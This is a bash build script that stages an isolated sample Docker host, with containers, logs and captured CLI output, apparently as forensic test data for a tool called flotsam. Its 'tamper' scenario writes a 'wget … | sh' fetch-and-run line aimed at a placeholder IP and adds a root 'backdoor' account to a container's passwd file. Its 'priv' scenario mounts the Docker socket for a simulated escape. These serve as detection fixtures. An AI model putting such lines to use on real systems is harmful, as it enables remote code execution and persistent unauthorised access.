#!/usr/bin/env bash
# Build flotsam's SAMPLE HOST with a real Docker engine.
#
#   sudo bash sample-images/build-sample-host.sh
#
# Produces (next to this script):
#   sample-host/              host-root-shaped tree (git-storable subset)
#   sample-host.tar.gz        full-fidelity tree (whiteout char devices, xattrs, owners)
#   sample-host.omitted.txt   paths present in the tar.gz but not in sample-host/
#   sample-host.xattrs.txt    extended attributes git cannot store (overlay opaque markers)
#   captures/                 docker CLI output captured from the live daemon (ground truth)
#
# How it works: the script re-executes itself inside fresh mount/net/uts/pid namespaces
# (unshare). Inside, a private tmpfs is mounted on /run and a scratch directory is
# bind-mounted on /var/lib/docker, so dockerd runs with its *default* paths
# (/var/lib/docker, /var/run/docker.sock) and every path recorded on disk looks like a
# real host's -- without touching the real host's docker state. The private network
# namespace lets dockerd create docker0 and docker-proxy so -p publishing is real.
# When the namespace's init (this script) exits, the kernel kills anything left in the
# pid namespace, so no dockerd/containerd/shim can outlive the build.
#
# Sandbox-only workaround: CAP_SYS_RESOURCE is not in this sandbox's bounding set, so
# runc cannot start --privileged containers. A wrapper named `runc` is put first on
# dockerd's PATH; on `create` it removes CAP_SYS_RESOURCE from the bundle's config.json
# and execs /usr/sbin/runc. The container's hostconfig.json still says Privileged=true
# and Runtime="runc" (the wrapper is invisible to docker's on-disk state).
#
# Environment overrides:
#   FLOTSAM_SAMPLE_WORK   scratch dir (default /tmp/flotsam-sample-build); must be on a
#                         filesystem usable as an overlayfs upperdir (ext4/xfs).
#   FLOTSAM_STORAGE_DRIVER  default overlay2 (falls back to vfs if overlay mount fails)
#   FLOTSAM_SAMPLE_KEEP_WORK=1  keep the scratch dir after a successful build (it is always
#                         kept after a failure, for $WORK/docker.log)
set -euo pipefail

SCRIPT_PATH="$(readlink -f "${BASH_SOURCE[0]}")"
OUT_DIR="$(dirname "$SCRIPT_PATH")"
WORK="${FLOTSAM_SAMPLE_WORK:-/tmp/flotsam-sample-build}"
DOCKER=/usr/bin/docker          # Debian 20.10 client (matches the daemon), not /usr/local/bin/docker
DOCKERD=/usr/sbin/dockerd
REAL_RUNC=/usr/sbin/runc
BUSYBOX=/bin/busybox
export TZ=UTC LC_ALL=C

log() { printf '[build-sample-host %s] %s\n' "$(date -u +%H:%M:%S)" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }

###########################################################################################
# OUTER: preflight, namespace launch, packaging, leftover check
###########################################################################################
outer() {
  [[ $(id -u) == 0 ]] || die "must run as root (sudo bash $0)"
  for b in "$DOCKER" "$DOCKERD" "$REAL_RUNC" "$BUSYBOX" /usr/bin/containerd jq unshare tar gzip python3 ip; do
    command -v "$b" >/dev/null || die "missing required tool: $b"
  done

  # Scratch dir: a crashed previous run can leave nothing mounted (its mount namespace
  # died with it), so a plain rm -rf is safe.
  case "$WORK" in /|/tmp|/var|/var/lib|"") die "refusing WORK=$WORK";; esac
  rm -rf "$WORK"
  mkdir -p "$WORK"/{lib-docker,bin,stage,etc-docker}

  # Bind target for the scratch data root (inside our private mount namespace only).
  local created_varlibdocker=0
  if [[ ! -e /var/lib/docker ]]; then mkdir -p /var/lib/docker; created_varlibdocker=1; fi

  log "entering private mount/net/uts/pid namespaces"
  local rc=0
  unshare --mount --net --uts --pid --fork --mount-proc --propagation private \
    env FLOTSAM_SAMPLE_WORK="$WORK" FLOTSAM_STORAGE_DRIVER="${FLOTSAM_STORAGE_DRIVER:-overlay2}" \
    bash "$SCRIPT_PATH" --inner || rc=$?

  if [[ $created_varlibdocker == 1 ]]; then rmdir /var/lib/docker 2>/dev/null || true; fi

  # Leftover check: any process still in the build's pid namespace is ours -> kill by pid.
  if [[ -s $WORK/pidns ]]; then
    local ns pid left=()
    ns=$(cat "$WORK/pidns")
    for p in /proc/[0-9]*; do
      pid=${p#/proc/}
      [[ $(readlink "$p/ns/pid" 2>/dev/null || true) == "$ns" ]] && left+=("$pid")
    done
    if ((${#left[@]})); then
      log "killing leftover processes from build namespace: ${left[*]}"
      kill -9 "${left[@]}" 2>/dev/null || true
    else
      log "no processes left in build pid namespace $ns"
    fi
  fi
  [[ $rc == 0 ]] || die "inner build failed (rc=$rc); daemon log: $WORK/docker.log"

  package
  if [[ ${FLOTSAM_SAMPLE_KEEP_WORK:-0} != 1 ]]; then rm -rf "$WORK"; fi
  log "done"
}

package() {
  local stage="$WORK/stage/sample-host"
  [[ -d $stage/var/lib/docker ]] || die "no staged tree"
  log "packaging outputs into $OUT_DIR"

  # Full-fidelity archive (whiteouts, xattrs, numeric owners). Sorted + fixed gzip header
  # for smaller diffs between rebuilds of identical input (content still differs: ids).
  rm -f "$OUT_DIR/sample-host.tar.gz"
  tar -C "$WORK/stage" --numeric-owner --xattrs --xattrs-include='*' --sort=name \
      -cf - sample-host | gzip -n -9 > "$OUT_DIR/sample-host.tar.gz"

  # Git-storable copy: drop char/block devices, sockets, fifos; list them.
  local gitcopy="$WORK/gitcopy"
  rm -rf "$gitcopy"; mkdir -p "$gitcopy"
  tar -C "$WORK/stage" --numeric-owner -cf - sample-host | tar -C "$gitcopy" --numeric-owner -xpf -
  {
    echo "# Paths inside sample-host.tar.gz that are NOT in the git tree sample-host/."
    echo "# Format: <kind>\t<details>\t<path relative to sample-host/>"
    echo "# kinds: chardev/blockdev (major:minor; overlay2 whiteouts are chardev 0:0), socket, fifo,"
    echo "#        emptydir (git cannot store empty directories, e.g. overlay2 merged/ and work/ dirs)"
    (cd "$gitcopy/sample-host" && find . \( -type c -o -type b -o -type s -o -type p \) -printf '%y\t%p\n' | sort -k2) |
      while IFS=$'\t' read -r t p; do
        case $t in
          c|b) mm=$(stat -c '%Hr:%Lr' "$gitcopy/sample-host/$p"); [[ $t == c ]] && k=chardev || k=blockdev
               printf '%s\t%s\t%s\n' "$k" "$mm" "${p#./}";;
          s) printf 'socket\t-\t%s\n' "${p#./}";;
          p) printf 'fifo\t-\t%s\n' "${p#./}";;
        esac
      done
  } > "$WORK/omitted.txt"
  (cd "$gitcopy/sample-host" && find . \( -type c -o -type b -o -type s -o -type p \) -delete)
  (cd "$gitcopy/sample-host" && find . -mindepth 1 -type d -empty -printf 'emptydir\t-\t%P\n' | sort -k3) >> "$WORK/omitted.txt"

  # xattrs (trusted.overlay.opaque etc.) are not representable in git either.
  python3 - "$WORK/stage/sample-host" > "$WORK/xattrs.txt" <<'PY'
import os, sys
root = sys.argv[1]
print("# Extended attributes in sample-host.tar.gz that git cannot store.")
print("# Format: <path relative to sample-host/>\t<name>=<value (python repr of bytes)>")
rows = []
for d, dirs, files in os.walk(root):
    for n in [d] + [os.path.join(d, f) for f in files]:
        try:
            names = os.listxattr(n, follow_symlinks=False)
        except OSError:
            continue
        for a in names:
            try:
                v = os.getxattr(n, a, follow_symlinks=False)
            except OSError:
                continue
            rows.append((os.path.relpath(n, root), a, v))
for p, a, v in sorted(set(rows)):
    print(f"{p}\t{a}={v!r}")
PY

  # Swap into place (idempotent).
  rm -rf "$OUT_DIR/sample-host" "$OUT_DIR/captures"
  mv "$gitcopy/sample-host" "$OUT_DIR/sample-host"
  cp -a "$WORK/captures" "$OUT_DIR/captures"
  cp "$WORK/omitted.txt" "$OUT_DIR/sample-host.omitted.txt"
  cp "$WORK/xattrs.txt" "$OUT_DIR/sample-host.xattrs.txt"
  # The repo's root .gitignore ignores *.log; container logs and docker.log must be kept.
  printf '%s\n' '# keep docker/container logs of the sample host (root .gitignore ignores *.log)' '!*.log' \
    > "$OUT_DIR/.gitignore"
  du -sh "$OUT_DIR/sample-host" "$OUT_DIR/sample-host.tar.gz" "$OUT_DIR/captures" >&2
}

###########################################################################################
# INNER: runs as pid 1 of a private pid namespace with private mounts and network
###########################################################################################
HIST=""
DOCKERD_PID=""

# Quote an argv the way a human would type it (for .bash_history).
human_quote() {
  local out="" a
  for a in "$@"; do
    if [[ $a =~ ^[A-Za-z0-9_./:=@,+%-]+$ ]]; then out+=" $a"
    else out+=" '${a//\'/\'\\\'\'}'"; fi
  done
  printf '%s' "${out# }"
}
# Run a docker command *as the simulated admin*: recorded in /root/.bash_history.
hd() {
  printf '#%s\n%s\n' "$(date +%s)" "docker $(human_quote "$@")" >> "$HIST"
  "$DOCKER" "$@"
}
d() { "$DOCKER" "$@"; }   # collection/polling commands: not part of the host's history

inner_cleanup() {
  local rc=$?
  set +e
  trap - EXIT INT TERM
  if [[ -n $DOCKERD_PID ]] && kill -0 "$DOCKERD_PID" 2>/dev/null; then
    log "stopping containers"
    local ids; ids=$("$DOCKER" ps -q 2>/dev/null)
    # shellcheck disable=SC2086
    [[ -n $ids ]] && timeout 30 "$DOCKER" stop -t 2 $ids >/dev/null 2>&1
    log "stopping dockerd (pid $DOCKERD_PID)"
    kill -TERM "$DOCKERD_PID" 2>/dev/null
    for _ in $(seq 100); do kill -0 "$DOCKERD_PID" 2>/dev/null || break; sleep 0.2; done
    kill -0 "$DOCKERD_PID" 2>/dev/null && kill -KILL "$DOCKERD_PID" 2>/dev/null
  fi
  # Everything else in this pid namespace (containerd, shims, docker-proxy, container
  # processes) was started by this build: kill by pid.
  local p pid
  for p in /proc/[0-9]*; do
    pid=${p#/proc/}
    [[ $pid == 1 || $pid == "$$" || $pid == "$BASHPID" ]] && continue
    kill -KILL "$pid" 2>/dev/null
  done
  # Mounts disappear with the namespace; unmount explicitly anyway (lazy).
  umount -R -l /var/lib/docker 2>/dev/null
  exit "$rc"
}

inner() {
  trap inner_cleanup EXIT
  trap 'exit 130' INT TERM
  readlink /proc/self/ns/pid > "$WORK/pidns"

  local BUILD_START; BUILD_START=$(date +%s)
  mount -t tmpfs -o mode=755 tmpfs /run
  mount --bind "$WORK/lib-docker" /var/lib/docker
  ip link set lo up
  hostname flotsam-sample

  # --- storage driver probe --------------------------------------------------------------
  local driver="${FLOTSAM_STORAGE_DRIVER:-overlay2}"
  if [[ $driver == overlay2 ]]; then
    local t="$WORK/ovl-probe"; mkdir -p "$t"/{l,u,w,m}
    if mount -t overlay overlay -o "lowerdir=$t/l,upperdir=$t/u,workdir=$t/w" "$t/m" 2>/dev/null; then
      umount "$t/m"; log "overlay mount works: using overlay2"
    else
      log "WARNING: overlay mount failed here; falling back to vfs"; driver=vfs
    fi
    rm -rf "$t"
  fi
  echo "$driver" > "$WORK/storage-driver"

  # --- runc wrapper (sandbox only: strip CAP_SYS_RESOURCE) ---------------------------------
  cat > "$WORK/bin/runc" <<EOF
#!/bin/bash
# flotsam sample build: drop CAP_SYS_RESOURCE (not grantable in the build sandbox) from the
# OCI bundle on create/run, then exec the real runc with identical arguments.
args=("\$@"); bundle=""; iscreate=0
for ((i=0; i<\${#args[@]}; i++)); do
  case "\${args[i]}" in
    create|run) iscreate=1 ;;
    --bundle|-b) bundle="\${args[i+1]:-}" ;;
    --bundle=*|-b=*) bundle="\${args[i]#*=}" ;;
  esac
done
if [[ \$iscreate == 1 ]]; then
  cfg="\${bundle:-\$PWD}/config.json"
  if [[ -f \$cfg ]] && grep -q CAP_SYS_RESOURCE "\$cfg"; then
    jq -c '.process.capabilities |= (if . == null then . else with_entries(.value |= map(select(. != "CAP_SYS_RESOURCE"))) end)' "\$cfg" > "\$cfg.flotsam-tmp" && mv "\$cfg.flotsam-tmp" "\$cfg"
  fi
fi
exec $REAL_RUNC "\$@"
EOF
  chmod +x "$WORK/bin/runc"

  # --- daemon config ---------------------------------------------------------------------
  cat > "$WORK/etc-docker/daemon.json" <<EOF
{
  "storage-driver": "$driver",
  "log-driver": "json-file",
  "log-opts": { "max-size": "10m", "max-file": "3" },
  "iptables": false,
  "ip6tables": false
}
EOF

  # --- start dockerd (default data-root/exec-root/socket, inside our namespaces) -----------
  log "starting dockerd"
  PATH="$WORK/bin:$PATH" "$DOCKERD" --config-file "$WORK/etc-docker/daemon.json" \
    > "$WORK/docker.log" 2>&1 &
  DOCKERD_PID=$!
  for _ in $(seq 150); do
    d version >/dev/null 2>&1 && break
    kill -0 "$DOCKERD_PID" 2>/dev/null || die "dockerd exited early; see $WORK/docker.log"
    sleep 0.2
  done
  d version >/dev/null || die "dockerd did not come up"
  [[ $(d info --format '{{.Driver}}') == "$driver" ]] || die "dockerd not using $driver"

  local S="$WORK/stage/sample-host"
  mkdir -p "$S"/{etc/docker,var/lib/docker,var/log,root}
  HIST="$S/root/.bash_history"; : > "$HIST"
  local C="$WORK/captures"; mkdir -p "$C"

  # --- base image from busybox-static ------------------------------------------------------
  log "building busybox rootfs + importing image"
  local R="$WORK/rootfs"; rm -rf "$R"; mkdir -p "$R"/{bin,etc,tmp,root,proc,sys,dev,data,var/www,opt/app/conf,usr/share}
  cp "$BUSYBOX" "$R/bin/busybox"
  local a
  for a in $("$BUSYBOX" --list); do [[ $a == busybox ]] || ln -s busybox "$R/bin/$a"; done
  chmod 1777 "$R/tmp"
  printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/bin/false\nwww-data:x:33:33:www-data:/var/www:/bin/false\n' > "$R/etc/passwd"
  printf 'root:x:0:\nwww-data:x:33:\nnogroup:x:65534:\n' > "$R/etc/group"
  printf 'Welcome to the flotsam sample image\n' > "$R/etc/motd"
  printf '<html><body>shop</body></html>\n' > "$R/var/www/index.html"
  printf 'listen=80\nupstream=db:5432\n' > "$R/opt/app/conf/app.conf"
  printf 'v1.0\n' > "$R/opt/app/VERSION"
  tar -C "$R" --sort=name --mtime=@1700000000 --owner=0 --group=0 --numeric-owner -cf "$WORK/rootfs.tar" .

  hd import -c 'CMD ["/bin/sh"]' -c 'ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' \
     -m 'flotsam sample base (busybox-static)' "$WORK/rootfs.tar" bb:latest >/dev/null
  hd tag bb:latest sample/web:1.0
  hd volume create appdata >/dev/null

  # --- scenarios -----------------------------------------------------------------------------
  log "scenario web"
  hd run -d --name web --restart unless-stopped -p 0.0.0.0:8080:80 \
     --label com.docker.compose.project=shop --label com.docker.compose.service=web \
     --label com.docker.compose.container-number=1 \
     sample/web:1.0 sh -c 'i=0; while :; do i=$((i+1)); echo "GET /index.html 200 req=$i"; if [ $((i % 10)) -eq 0 ]; then echo "WARN upstream slow req=$i" >&2; fi; sleep 0.2; done' >/dev/null

  log "scenario flappy"
  hd run -d --name flappy --restart always bb:latest \
     sh -c 'echo "flappy starting at $(date -u +%FT%TZ)"; sleep 1; echo "fatal: cannot connect to db" >&2; exit 1' >/dev/null

  log "scenario job-ok"
  hd run --name job-ok bb:latest sh -c 'echo "job starting"; for i in 1 2 3; do echo "processing batch $i"; done; echo "job finished ok"' >/dev/null

  log "scenario crasher"
  hd run -d --name crasher bb:latest sh -c 'echo "crasher: starting"; echo "panic: runtime error: index out of range" >&2; echo "goroutine 1 [running]:" >&2; exit 3' >/dev/null

  log "scenario priv"
  hd run -d --name priv --privileged --cap-add SYS_ADMIN --pid=host \
     -v /var/run/docker.sock:/var/run/docker.sock bb:latest \
     sh -c 'echo "uid=$(id -u) on $(hostname)"; ls -la /var/run/docker.sock; ps -o pid,comm | head -n 5; echo "escaping via docker.sock"; sleep 86400' >/dev/null

  log "scenario rotator"
  hd run -d --name rotator --log-opt max-size=10k --log-opt max-file=4 --log-opt compress=true bb:latest \
     sh -c 'i=0; while [ $i -lt 1500 ]; do i=$((i+1)); echo "rotator line $i: lorem ipsum dolor sit amet"; done; echo "rotator finished" >&2' >/dev/null

  log "scenario bigline"
  hd run -d --name bigline bb:latest \
     sh -c 'echo "bigline: before"; yes 0123456789 | head -n 4000 | tr -d "\n"; echo; echo "bigline: after"' >/dev/null

  log "scenario vol"
  hd run -d --name vol -v appdata:/data bb:latest \
     sh -c 'echo "customer-db v1" > /data/app.db; date -u +%FT%TZ > /data/written-at; ls -la /data' >/dev/null

  log "scenario tamper"
  hd run -d --name tamper bb:latest sh -c '
printf "#!/bin/sh\nwget -q -O- http://203.0.113.7/x | sh\n" > /tmp/evil.sh
chmod +x /tmp/evil.sh
echo "backdoor:x:0:0::/root:/bin/sh" >> /etc/passwd
rm -f /bin/sleep /etc/motd
rm -rf /opt/app
mkdir -p /opt/app
echo "replaced=1" > /opt/app/config
echo "tamper done"' >/dev/null

  for n in job-ok crasher rotator bigline vol tamper; do d wait "$n" >/dev/null; done
  log "exec into web"
  hd exec web touch /tmp/exec-was-here
  hd exec web sh -c 'id; cat /etc/passwd' >/dev/null

  log "scenario localdrv"
  hd run -d --name localdrv --log-driver local bb:latest \
     sh -c 'for i in 1 2 3 4 5; do echo "local driver line $i"; done; echo "local driver stderr" >&2' >/dev/null
  d wait localdrv >/dev/null

  log "scenario gone"
  hd run -d --name gone bb:latest sh -c 'echo "gone: I was here"; echo "gone: deleting traces" >&2; sleep 3600' >/dev/null
  sleep 1
  d ps -a --no-trunc --format '{{json .}}' > "$C/ps-a-before-rm-gone.jsonl"
  d inspect gone > "$C/inspect-gone-before-rm.json"
  local gone_id; gone_id=$(d inspect -f '{{.Id}}' gone)
  hd rm -f gone >/dev/null
  jq -n --arg id "$gone_id" --arg name gone '{Id:$id, Name:$name, RemovedWith:"docker rm -f gone"}' > "$C/removed-containers.json"

  log "scenario nostart"
  hd create --name nostart bb:latest echo "never started" >/dev/null

  # Let flappy accumulate restarts, wait until rotator's async gzip has finished.
  log "waiting for restarts / log compression"
  local rot_id; rot_id=$(d inspect -f '{{.Id}}' rotator)
  local rdir="/var/lib/docker/containers/$rot_id"
  for _ in $(seq 100); do
    if ls "$rdir"/*.gz >/dev/null 2>&1 && ! ls "$rdir/$rot_id-json.log.1" >/dev/null 2>&1; then break; fi
    sleep 0.2
  done
  # Capture right at the start of one of flappy's restart back-off windows, so captured
  # state and on-disk snapshot agree on "restarting". Docker doubles the back-off on each
  # restart (0.1, 0.2, 0.4 ... s); with RestartCount 6 the window is 3.2 s, enough for the
  # captures + snapshot below (~1 s).
  local fl_state=""
  for _ in $(seq 300); do
    fl_state=$(d inspect -f '{{.RestartCount}} {{.State.Restarting}}' flappy)
    [[ ${fl_state% *} -ge 6 && ${fl_state#* } == true ]] && break
    sleep 0.1
  done
  log "flappy: RestartCount/Restarting = $fl_state"

  # --- captures of in-memory daemon state (pure reads; nothing on disk changes) ------------
  log "capturing docker CLI ground truth"
  local ids; ids=$(d ps -aq --no-trunc)
  # shellcheck disable=SC2086
  d inspect $ids > "$C/inspect.json"
  d ps -a --no-trunc --format '{{json .}}' > "$C/ps-a.jsonl"
  d images --no-trunc --format '{{json .}}' > "$C/images.jsonl"
  d image inspect bb:latest > "$C/image-inspect.json"
  d volume ls --format '{{json .}}' > "$C/volumes.jsonl"
  d volume inspect appdata > "$C/volume-inspect.json"
  d info --format '{{json .}}' > "$C/info.json"
  d version --format '{{json .}}' > "$C/version.json"
  d events --since "$((BUILD_START - 1))" --until "$(date +%s)" --format '{{json .}}' > "$C/events.jsonl"

  # --- snapshot the data root while the daemon is up --------------------------------------------
  # $WORK/lib-docker is the same directory as /var/lib/docker but seen through the original
  # (private-propagation) mount, so overlay2 merged/ and shm mounts appear as the empty
  # on-disk directories underneath -- exactly what a disk image would contain.
  log "snapshotting data root"
  # GNU tar exits 1 for "file changed as we read it" (web keeps logging): expected on a
  # live system, so only rc >= 2 is fatal.
  set +o pipefail
  tar -C "$WORK/lib-docker" --numeric-owner --xattrs --xattrs-include='*' -cf - . |
    tar -C "$S/var/lib/docker" --numeric-owner --xattrs --xattrs-include='*' -xpf -
  local trc=("${PIPESTATUS[@]}")
  set -o pipefail
  [[ ${trc[0]} -le 1 && ${trc[1]} == 0 ]] || die "snapshot tar failed (rc ${trc[*]})"
  [[ ${trc[0]} == 1 ]] && log "note: files changed while snapshotting (live daemon); kept as read"
  cp "$WORK/docker.log" "$S/var/log/docker.log"
  local SNAP_END; SNAP_END=$(date +%s)

  # --- captures that may touch disk: taken AFTER the snapshot --------------------------------
  # `docker diff` of a stopped container mounts its overlay (sets trusted.overlay.* xattrs,
  # touches work/), and `docker logs` of a never-started container creates an empty
  # <id>-json.log. Doing these after the snapshot keeps collection artifacts out of it.
  local n st
  for n in $(d ps -a --format '{{.Names}}'); do
    d diff "$n" > "$C/diff-$n.txt" 2>&1 || true
    st=$(d inspect -f '{{.State.Status}}' "$n")
    [[ $st == created ]] && continue
    d logs --timestamps "$n" > "$C/logs-$n.stdout.txt" 2> "$C/logs-$n.stderr.txt" || true
  done
  jq -n --argjson start "$BUILD_START" --argjson snap "$SNAP_END" --arg driver "$driver" \
     --arg dv "$(d version --format '{{.Server.Version}}')" \
     '{build_start_epoch:$start, snapshot_epoch:$snap, storage_driver:$driver, docker_server_version:$dv,
       note:"ps/inspect/images/volumes/info/events captured from the live daemon immediately before the data-root snapshot; diff-*/logs-* captured right after it"}' > "$C/build-meta.json"

  # Host identity files
  echo flotsam-sample > "$S/etc/hostname"
  echo UTC > "$S/etc/timezone"
  cat > "$S/etc/os-release" <<'EOF'
PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
HOME_URL="https://www.debian.org/"
SUPPORT_URL="https://www.debian.org/support"
BUG_REPORT_URL="https://bugs.debian.org/"
EOF
  # daemon.json as a real host would have it (sandbox-only iptables=false removed).
  jq 'del(.iptables, .ip6tables)' "$WORK/etc-docker/daemon.json" > "$S/etc/docker/daemon.json"
  chmod 600 "$HIST"
  log "inner build complete; shutting down"
}

if [[ ${1:-} == --inner ]]; then inner; else outer; fi
